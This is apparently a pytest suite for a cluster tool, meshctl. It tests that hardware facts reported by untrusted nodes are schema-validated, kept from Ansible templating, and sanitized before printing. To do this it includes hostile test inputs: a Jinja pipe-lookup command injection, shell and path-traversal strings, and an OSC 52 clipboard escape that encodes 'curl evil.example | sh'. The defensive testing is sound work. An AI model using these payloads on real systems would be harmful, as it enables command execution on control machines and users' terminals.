"""A rented node may be hostile: what it reports is data, checked against one schema and never templated.

The facts a node reports (mesh_hw) reach a run's inventory from facts/<node>.json; ansible-core
templates every string of a YAML inventory, so a recorded `{{ lookup('pipe', ...) }}` would run on
the control machine. These tests hold the schema, the loading and recording of facts, the run
inventory's `!unsafe` marking (with a real ansible-playbook) and the terminal sanitizer.
"""

import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from meshctl import display, runner
from meshctl.errors import InventoryError
from meshctl.mesh import Mesh, to_inventory
from meshctl.model import Node, Unsafe
from tests.conftest import REPO, fixture_text, fixtures_in
from tests.hwfacts import GPU, NO_GPU, ONE_GPU

PIPE = "{{ lookup('pipe', 'touch %s') }}"


@pytest.mark.parametrize("sound", [NO_GPU, ONE_GPU, {**ONE_GPU, "gpus": [{**GPU, "uuid": None, "memory_mb": None}]}])
def test_sound_facts_pass(hw, sound):
    assert hw.facts_problems(sound) == []


def test_facts_from_every_fixture_pass_the_schema(hw):
    lscpu = fixture_text("lscpu/desktop-amd-ryzen9-5950x-smt.txt")
    free = fixture_text("free/procps4-64gb-workstation-no-swap.txt")
    checked = 0
    for name in [*fixtures_in("nvidia-smi-L"), *fixtures_in("nvidia-smi-query")]:
        try:
            facts = hw.node_facts(lscpu=lscpu, free=free, nvidia_smi=fixture_text(name))
        except hw.HwParseError:
            continue  # a query without a name column: refused earlier, by the parser
        facts.update(slurm_version="24.11.5", slurm_major="24.11", in_container=False, cgroup_version=2)
        assert hw.facts_problems(facts) == [], name
        checked += 1
    assert checked >= 10


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"in_container": PIPE % "/tmp/x"}, 'in_container is "{{ lookup'),
        ({"topology_source": "lscpu; id"}, "topology_source is 'lscpu; id'"),
        ({"gpu_error": "{{ 7 * 7 }}"}, "gpu_error is"),
        ({"gpu_error": "\x1b]52;c;aWQK\x07"}, "gpu_error is"),
        ({"slurm_major": "../../etc"}, "slurm_major is '../../etc'"),
        ({"slurm_version": "22.05.8\n"}, "slurm_version is"),
        ({"cgroup_version": "2"}, "cgroup_version is '2'"),
        ({"cgroup_version": True}, "cgroup_version is True"),
        ({"distribution_release": "x/../../root/.ssh"}, "unknown keys 'distribution_release'"),
        ({"gpus": [{**GPU, "model": "{% raw %}"}]}, "GPU 0: model is"),
        ({"gpus": [{**GPU, "index": -1}]}, "GPU 0: index is -1"),
        ({"gpus": [{**GPU, "owner": "x"}]}, "GPU 0: unknown keys 'owner'"),
        ({"gpus": [{"type": "a100"}]}, "GPU 0: missing keys index, model"),
        ({"gpus": [GPU] * 1025}, "more than 1024"),
    ],
)
def test_facts_outside_the_schema_are_refused(hw, change, message):
    problems = hw.facts_problems({**ONE_GPU, **change})
    assert any(message in p for p in problems), problems


def test_a_missing_key_is_refused(hw):
    facts = dict(NO_GPU)
    del facts["in_container"]
    assert hw.facts_problems(facts) == ["missing keys in_container"]


def test_nvidia_smis_failure_line_is_kept_to_the_schemas_characters(hw):
    smi = hw.parse_nvidia_smi("NVIDIA-SMI has failed \x1b]52;c;aWQK\x07 {{ 1 }}" + "x" * 400)
    assert smi["status"] == "failed" and len(smi["error"]) == 300
    assert "\x1b" not in smi["error"] and "{" not in smi["error"]


@pytest.fixture
def mesh(tmp_path):
    m = Mesh(tmp_path / "mesh")
    m.path.mkdir()
    return m


def test_recording_refuses_facts_outside_the_schema(mesh):
    with pytest.raises(InventoryError, match="evil reported facts meshctl refuses: in_container is"):
        mesh.record_facts("evil", {**NO_GPU, "in_container": PIPE % "/tmp/x"})
    assert not (mesh.facts_dir / "evil.json").exists()
    mesh.record_facts("good", NO_GPU)
    assert mesh.load_facts() == {"good": NO_GPU}


def test_loading_leaves_out_and_names_facts_outside_the_schema(mesh):
    mesh.facts_dir.mkdir()
    (mesh.facts_dir / "good.json").write_text(json.dumps(NO_GPU))
    (mesh.facts_dir / "evil.json").write_text(json.dumps({**NO_GPU, "in_container": PIPE % "/tmp/x"}))
    (mesh.facts_dir / "huge.json").write_text(" " * (300 * 1024))
    (mesh.facts_dir / "broken.json").write_text("{")
    (mesh.facts_dir / "Not_A_Node.json").write_text(json.dumps(NO_GPU))
    assert mesh.load_facts() == {"good": NO_GPU}
    assert sorted(mesh.refused_facts) == ["broken", "evil", "huge"]
    assert "in_container is" in mesh.refused_facts["evil"] and "over 256 KiB" in mesh.refused_facts["huge"]


def test_the_run_inventory_marks_recorded_facts_unsafe(mesh):
    nodes = [Node("head", "10.0.0.1", roles=["head", "compute"], state="active", mesh_address="10.0.0.1"),
             Node("gpu1", "10.0.0.2", state="active", mesh_address="10.0.0.2")]  # fmt: skip
    inventory = to_inventory(nodes, {}, facts={"gpu1": ONE_GPU})
    hw = inventory["all"]["hosts"]["gpu1"]["mesh_hw"]
    assert hw == ONE_GPU and isinstance(hw, Unsafe)
    text = yaml.dump(inventory, Dumper=runner.InventoryDumper, sort_keys=False)
    assert "mesh_hw: !unsafe\n" in text and "slurm_major: '22.05'" in text
    assert yaml.safe_load(text.replace("!unsafe", "")) == json.loads(json.dumps(inventory))  # only tags added


PLAYBOOK = """
- hosts: head
  gather_facts: false
  tasks:
    - ansible.builtin.assert:
        that: hostvars.sound.mesh_hw | meshctl.mesh.hw_problems == []
        fail_msg: "{{ hostvars.sound.mesh_hw | meshctl.mesh.hw_problems }}"
    - ansible.builtin.copy:
        dest: "{{ out }}"
        content: "{{ groups.all | map('extract', hostvars, 'mesh_hw') | list | to_json }}"
        mode: "0600"
      delegate_to: localhost
"""


def test_ansible_never_templates_recorded_facts(tmp_path):
    """A fact written into a run's inventory reaches plays as the text it is: no lookup runs."""
    playbook = shutil.which("ansible-playbook", path=str(Path(sys.executable).parent))
    assert playbook, "ansible-playbook is installed beside the test's interpreter"
    witness = tmp_path / "pwned"
    evil = {**ONE_GPU, "in_container": PIPE % witness, "gpus": [{**GPU, "model": PIPE % witness}]}
    nodes = [Node("head", "127.0.0.1", roles=["head", "compute"], state="active", mesh_address="10.0.0.1",
                  connection="local"), Node("sound", "10.0.0.2", state="active", mesh_address="10.0.0.2")]  # fmt: skip
    inventory = to_inventory(nodes, {}, facts={"head": evil, "sound": ONE_GPU})
    (tmp_path / "hosts.yml").write_text(yaml.dump(inventory, Dumper=runner.InventoryDumper, sort_keys=False))
    (tmp_path / "play.yml").write_text(PLAYBOOK)
    out = tmp_path / "out.json"
    from meshctl import resources

    env = {**os.environ, "ANSIBLE_COLLECTIONS_PATH": str(resources.collections_path(tmp_path / "collections"))}
    done = subprocess.run(
        [playbook, "-i", str(tmp_path / "hosts.yml"), str(tmp_path / "play.yml"), "-e", f"out={out}"],
        capture_output=True, text=True, timeout=120, check=False, env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    assert not witness.exists()
    seen, sound = json.loads(out.read_text())
    assert sound == ONE_GPU  # sound recorded facts pass the roles' own check, as Ansible hands them over
    assert seen["in_container"] == PIPE % witness and seen["gpus"][0]["model"] == PIPE % witness


def test_progress_refuses_reported_facts_outside_the_schema():
    out = io.StringIO()
    reporter = runner.Progress(out=out, live=False)
    progress = runner.Events(reporter)
    bad = {**NO_GPU, "in_container": PIPE % "/tmp/x"}
    for host, hw in (("good", NO_GPU), ("evil", bad)):
        data = {"host": host, "task": "Gather hardware facts", "res": {"ansible_facts": {"mesh_hw": hw}}}
        progress.event({"event": "runner_on_ok", "event_data": data})
    assert progress.hw == {"good": NO_GPU}
    assert [f.host for f in progress.failures] == ["evil"]
    assert progress.counts["evil"]["failed"] == 1
    assert "evil reported hardware facts meshctl refuses (in_container is" in out.getvalue()


OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Debian {OSC52}12", "Debian 12"),
        ("Debian \x1b]52;c;eA==\x1b\\12", "Debian 12"),  # OSC ended by ST
        ("\x1b[2J\x1b[31mred\x1b[0m", "red"),  # CSI: clear screen, colours
        ("\x9b31mred", "red"),  # 8-bit CSI
        ("\x9d0;title\x9c ok", " ok"),  # 8-bit OSC
        ("a\x07b\x00c\x7fd\x85e", "abcde"),  # BEL, NUL, DEL, C1 NEL
        ("tab\there", "tab here"),
        ("safe\u202eevil", "safeevil"),  # bidi override
        ("one\ntwo\r\nthree", "one two three"),
        ("Quadro RTX 4000 [/] ünïcode", "Quadro RTX 4000 [/] ünïcode"),
    ],
)
def test_the_sanitizer_removes_escapes_and_controls(text, expected):
    assert display.clean(text) == expected


def test_everything_printed_is_sanitized():
    out = io.StringIO()
    reporter = runner.Progress(out=out, live=False)
    progress = runner.Events(reporter)
    progress.event({"event": "runner_on_failed", "event_data": {"host": "evil", "task": "t",
                                                                "res": {"msg": f"boom{OSC52}"}}})  # fmt: skip
    progress.event({"event": "runner_on_ok", "event_data": {"host": "evil", "task_action": "ansible.builtin.debug",
                                                            "res": {"msg": f"note{OSC52}\x1b[2J"}}})  # fmt: skip
    display.table("t", ["node", "os"], [["evil", f"Debian{OSC52}"]], out=out, live=False)
    reporter.recap()
    text = out.getvalue()
    assert "boom" in text and "note" in text and "Debian" in text
    assert "\x1b" not in text and "\x07" not in text and "52;c;" not in text
    live = io.StringIO()
    display.table("t", ["node", "os"], [["evil", f"Debian{OSC52}"]], out=live, live=True)
    assert "Debian" in live.getvalue() and "52;c;" not in live.getvalue()


def test_errors_are_printed_sanitized(capsys):
    from click.testing import CliRunner

    from meshctl.cli import cli

    result = CliRunner().invoke(cli, ["remove-node", f"x{OSC52}", "--mesh", "/nonexistent"])
    assert result.exit_code != 0
    assert "\x1b" not in result.output and "\x07" not in result.output


def _reported(**addresses):
    return {name: {"after": {"ipv4": ip}} for name, ip in addresses.items()}


@pytest.mark.parametrize(
    ("reported", "why"),
    [
        ("8.8.8.8", "outside the tailnet's range 100.64.0.0/10"),
        ("127.0.0.1", "outside the tailnet's range"),
        ("100.64.0.1", "it is head's mesh address"),
        ("100.64.0.7\nevil: 1", "not an IPv4 address"),
        ("fd7a:115c::1", "not an IPv4 address"),
        ("100.64.0.0", "outside the tailnet's range"),
        (["100.64.0.9"], "not an IPv4 address"),
    ],
)
def test_a_tailnet_address_outside_the_range_or_taken_is_refused(reported, why):
    from meshctl import tailnet

    head = Node("head", "10.0.0.1", roles=["head", "compute"], state="active", mesh_address="100.64.0.1")
    gpu1 = Node("gpu1", "10.0.0.2", state="active", mesh_address="10.0.0.2")
    (note,) = tailnet.record_addresses([gpu1], _reported(gpu1=reported), [head, gpu1])
    assert why in note and "refused" in note
    assert gpu1.mesh_address == "10.0.0.2"


def test_a_sound_tailnet_address_is_recorded_and_the_range_comes_from_group_vars(mesh):
    from meshctl import tailnet

    gpu1 = Node("gpu1", "10.0.0.2", state="active", mesh_address="10.0.0.2")
    (note,) = tailnet.record_addresses([gpu1], _reported(gpu1="100.100.3.4"), [gpu1])
    assert gpu1.mesh_address == "100.100.3.4" and "10.0.0.2 -> 100.100.3.4" in note
    (mesh.path / "group_vars").mkdir()
    (mesh.path / "group_vars" / "all.yml").write_text("mesh_tailnet_cidr: 100.100.40.0/24\n")
    assert str(tailnet.tailnet_cidr(mesh)) == "100.100.40.0/24"
    (note,) = tailnet.record_addresses([gpu1], _reported(gpu1="100.100.41.1"), [gpu1], tailnet.tailnet_cidr(mesh))
    assert "outside the tailnet's range 100.100.40.0/24" in note


def test_a_nodes_facts_are_checked_in_the_first_play_before_anything_changes_it():
    """site.yml's first play reads and checks every node's hardware facts (role mesh_facts) before
    its first task that changes a node, and before the plays that join the tailnet and install the
    munge key: a hostile node is refused before it gets either."""
    plays = yaml.safe_load((REPO / "playbooks" / "site.yml").read_text())
    first = next(p for p in plays if "tasks" in p)
    names = [(t.get("ansible.builtin.import_role") or {}).get("name", "") for t in first["tasks"]]
    froms = [(t.get("ansible.builtin.import_role") or {}).get("tasks_from", "main") for t in first["tasks"]]
    facts = names.index("meshctl.mesh.mesh_facts")
    # What comes before: the settings check and the munge key made on the control machine, no more.
    assert list(zip(names[:facts], froms[:facts], strict=True)) == [
        ("meshctl.mesh.mesh_settings", "main"),
        ("meshctl.mesh.munge", "secret"),
    ]
    assert plays.index(first) < min(i for i, p in enumerate(plays) if p.get("name") == "Join the tailnet")
